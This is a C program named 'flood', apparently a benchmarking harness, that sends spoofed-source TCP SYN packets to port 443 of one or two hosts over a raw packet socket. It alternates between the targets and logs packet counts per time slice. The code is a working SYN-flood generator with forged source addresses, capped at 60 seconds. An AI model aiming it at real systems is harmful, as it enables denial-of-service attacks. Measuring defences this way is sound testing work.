/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * flood: SYNs to port 443 of one host, and of another in turn, from random sources of a prefix, at a given rate: what a
 * denied host that means harm sends. Frames are sent in batches over AF_PACKET. Time is cut into slices; the targets take turns
 * as 1 2 2 1 1 2 2 1 ..., so that a drift disturbs both alike. At each slice's end a line says which target it was for and
 * how many packets it had. It stops by itself.
 *
 * usage: flood INTERFACE SOURCE_PREFIX/BITS PACKETS_PER_SECOND SLICE_MS SLICES MAC ADDRESS [MAC ADDRESS]
 *        (IPv4; 0 packets per second: as fast as it goes)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH_COUNT 32
/* Longer is a mistake: nothing measured here takes that long. */
#define SECONDS_MAX 60
#define NS_PER_SECOND 1000000000ull

struct frame {
	struct ether_header link;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

struct target {
	struct frame template;
	uint32_t prefix, host_mask; /* of the sources, in host order */
	uint32_t ip_sum, tcp_sum;   /* of all words but those that change */
};

static void fail(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * NS_PER_SECOND + (uint64_t)now.tv_nsec;
}

/* xorshift: quick, and random enough for addresses. */
static uint32_t next_random(void)
{
	static uint32_t state = 2463534242u;

	state ^= state << 13;
	state ^= state >> 17;
	state ^= state << 5;
	return state;
}

static uint32_t sum_words(const void *from, size_t bytes)
{
	const uint8_t *byte = from;
	uint32_t sum = 0;

	for (size_t i = 0; i < bytes; i += 2)
		sum += (uint32_t)byte[i] << 8 | byte[i + 1];
	return sum;
}

static uint16_t checksum_be(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void set_target(struct target *target, const char *mac, const char *address, const char *prefix)
{
	struct frame *frame = &target->template;
	char network[32];
	const char *slash = strchr(prefix, '/');
	unsigned bits = slash ? (unsigned)atoi(slash + 1) : 32;
	struct in_addr source;

	frame->ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP };
	frame->ip.tot_len = htons(sizeof frame->ip + sizeof frame->tcp);
	frame->tcp.dest = htons(443);
	frame->tcp.doff = sizeof frame->tcp / 4;
	frame->tcp.syn = 1;
	frame->tcp.window = htons(64240);
	frame->link.ether_type = htons(ETHERTYPE_IP);
	snprintf(network, sizeof network, "%.*s", slash ? (int)(slash - prefix) : (int)strlen(prefix), prefix);
	errno = EINVAL;
	if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &frame->link.ether_dhost[0], &frame->link.ether_dhost[1],
		    &frame->link.ether_dhost[2], &frame->link.ether_dhost[3], &frame->link.ether_dhost[4],
		    &frame->link.ether_dhost[5]) != 6 ||
		inet_pton(AF_INET, address, &frame->ip.daddr) != 1 || inet_pton(AF_INET, network, &source) != 1 ||
		bits > 32)
		fail("addresses");
	target->host_mask = bits == 0 ? UINT32_MAX : bits == 32 ? 0 : UINT32_MAX >> bits;
	target->prefix = ntohl(source.s_addr) & ~target->host_mask;
	target->ip_sum = sum_words(&frame->ip, sizeof frame->ip);
	target->tcp_sum = sum_words(&frame->tcp, sizeof frame->tcp) + sum_words(&frame->ip.daddr, 4) + IPPROTO_TCP +
			  sizeof frame->tcp;
}

static void make_frame(struct frame *frame, const struct target *target)
{
	uint32_t source = target->prefix | (next_random() & target->host_mask);
	uint32_t source_sum = (source >> 16) + (source & 0xffff), sequence = next_random();
	uint16_t port = (uint16_t)(1024 + next_random() % 60000);

	*frame = target->template;
	frame->ip.saddr = htonl(source);
	frame->ip.check = checksum_be(target->ip_sum + source_sum);
	frame->tcp.source = htons(port);
	frame->tcp.seq = htonl(sequence);
	frame->tcp.check = checksum_be(target->tcp_sum + source_sum + port + (sequence >> 16) + (sequence & 0xffff));
}

/* A socket that only sends, and by the shortest way. */
static int open_interface(const char *name, struct target *target)
{
	struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name) };
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), on = 1;
	struct ifreq request = { 0 };

	if (fd < 0 || bind(fd, (const struct sockaddr *)&at, sizeof at) < 0)
		fail(name);
	snprintf(request.ifr_name, sizeof request.ifr_name, "%s", name);
	if (ioctl(fd, SIOCGIFHWADDR, &request) < 0)
		fail(name);
	memcpy(target->template.link.ether_shost, request.ifr_hwaddr.sa_data, ETH_ALEN);
	(void)setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
	return fd;
}

static uint64_t send_batch(int fd, const struct target *target)
{
	static struct frame frames[BATCH_COUNT];
	struct iovec parts[BATCH_COUNT];
	struct mmsghdr messages[BATCH_COUNT] = { 0 };
	int sent;

	for (size_t i = 0; i < BATCH_COUNT; i++) {
		make_frame(&frames[i], target);
		parts[i] = (struct iovec){ &frames[i], sizeof frames[i] };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &parts[i], .msg_iovlen = 1 };
	}
	sent = sendmmsg(fd, messages, BATCH_COUNT, 0);
	/* A full queue loses packets as a real link does. */
	if (sent < 0 && errno != ENOBUFS && errno != EAGAIN)
		fail("send");
	return sent < 0 ? 0 : (uint64_t)sent;
}

/* One slice's packets. What a slice is too short for is not made up for in the next. */
static uint64_t run_slice(int fd, const struct target *target, double rate, uint64_t began_ns, uint64_t end_ns)
{
	uint64_t sent = 0;

	for (uint64_t now = now_ns(); now < end_ns; now = now_ns()) {
		uint64_t due = began_ns + (uint64_t)(rate > 0 ? (double)sent / rate * (double)NS_PER_SECOND : 0);

		if (due > end_ns)
			due = end_ns;
		if (due > now) {
			struct timespec until = { .tv_sec = (time_t)(due / NS_PER_SECOND),
				.tv_nsec = (long)(due % NS_PER_SECOND) };

			clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
			continue;
		}
		sent += send_batch(fd, target);
	}
	return sent;
}

int main(int argument_count, char **arguments)
{
	struct target targets[2] = { 0 };
	uint64_t slice_ns, edge;
	long slices;
	double rate, slice_ms;
	int fd, target_count = argument_count == 10 ? 2 : 1;

	if (argument_count != 8 && argument_count != 10) {
		fprintf(stderr, "usage: flood INTERFACE SOURCE_PREFIX/BITS PACKETS_PER_SECOND SLICE_MS SLICES "
				"MAC ADDRESS [MAC ADDRESS]\n");
		return 2;
	}
	rate = atof(arguments[3]);
	slice_ms = atof(arguments[4]);
	slices = atol(arguments[5]);
	if (rate < 0 || slice_ms < 1 || slices < 1 || slice_ms * (double)slices > SECONDS_MAX * 1000) {
		fprintf(stderr, "flood: at most %d seconds\n", SECONDS_MAX);
		return 2;
	}
	fd = open_interface(arguments[1], &targets[0]);
	targets[1] = targets[0];
	for (int i = 0; i < target_count; i++)
		set_target(&targets[i], arguments[6 + 2 * i], arguments[7 + 2 * i], arguments[2]);
	slice_ns = (uint64_t)(slice_ms * 1e6);
	edge = now_ns();
	for (long slice = 0; slice < slices; slice++) {
		int turn = (int)((slice + 1) / 2 % target_count);

		printf("%d %llu\n", turn,
			(unsigned long long)run_slice(fd, &targets[turn], rate, edge, edge + slice_ns));
		fflush(stdout);
		edge += slice_ns;
	}
	close(fd);
	return 0;
}
